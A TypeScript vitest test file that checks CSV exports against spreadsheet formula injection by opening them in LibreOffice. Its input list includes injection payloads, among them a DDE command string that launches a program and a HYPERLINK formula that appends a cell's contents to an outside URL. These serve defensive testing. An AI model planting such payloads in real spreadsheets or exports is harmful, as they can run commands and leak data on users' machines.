import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../cli/reingest/parse-csv.ts';
import { csvLine } from '../../../lambdas/core/dead-letters/reconciliation-csv.ts';
import { unescapeCell } from '../../../lambdas/core/dead-letters/spreadsheet-text.ts';
import { openInLibreOffice, saveInLibreOffice, soffice, withoutLibreOffice } from '../../support/libreoffice.ts';

/** A start of LibreOffice takes seconds, on a busy machine many. */
const timeoutMs = 180_000;

const awkward = [
  ...[
    '=6*7',
    '\u0000=6*7',
    'x;=6*7;y',
    'x\t=6*7',
    'a\n=6*7',
    "'=6*7",
    '"=6*7',
    'x|=6*7',
    'x =6*7',
    ' =6*7',
    '\uFEFF=6*7',
  ],
  ...[
    "=cmd|'/C calc'!A0",
    '@SUM(1)',
    '+6*7',
    '-6*7',
    '\uFF1D6*7',
    '=HYPERLINK("http://x/"&A1)',
    'a\r\n"=6*7"',
    '{=6*7}',
  ],
  ...[
    ' blanks ',
    '007',
    '1e5',
    '-5',
    'TRUE',
    '2026-11-24',
    '\\=1',
    '\\u0041',
    'C:\\dir',
    '\r',
    '\t',
    '\u001b[31m',
    '\ud800',
  ],
];
const random = fc.sample(
  fc.string({ unit: fc.constantFrom(...Array.from('=+-@;,|:\t\r\n\u0000\'" 6*7aé😀\\')), minLength: 1, maxLength: 12 }),
  { numRuns: 150, seed: 15 },
);
const cells = [...awkward, ...random];
const csv = `\uFEFF${['text,more', ...cells.map((cell) => csvLine([cell, cell])), ''].join('\r\n')}`;

// Where it is left out, spreadsheet-text.test.ts still simulates imports.
describe.skipIf(soffice === undefined)(`a list that LibreOffice opens${withoutLibreOffice}`, () => {
  it('would run formulas, if it contained any', { timeout: timeoutMs }, async () => {
    const xml = await openInLibreOffice('text\r\nx;=6*7;y\r\n', { separators: ';', quote: '"', textColumns: 0 });
    expect(xml).toContain('table:formula');
  });

  it.each([
    { separators: ',', quote: '"' },
    { separators: ';', quote: '"' },
    { separators: '\t', quote: '"' },
    { separators: ',;\t |:', quote: "'" },
  ])('has no formula with $separators between cells and $quote around them', { timeout: timeoutMs }, async (how) => {
    const xml = await openInLibreOffice(csv, { ...how, textColumns: 0 });
    expect(xml).not.toContain('table:formula');
  });

  it('is read back unchanged, with its columns opened as text', { timeout: timeoutMs }, async () => {
    const saved = await saveInLibreOffice(csv, { separators: ',', quote: '"', textColumns: 2 });
    const read = parseCsv(Buffer.from(saved), ['text']).rows.map((row) => row.cells.map(unescapeCell));
    const plain = (text: string): string => text.replace(/\r\n/g, '\n');
    expect(read).toEqual(cells.map((cell) => [plain(cell), plain(cell)]));
  });
});
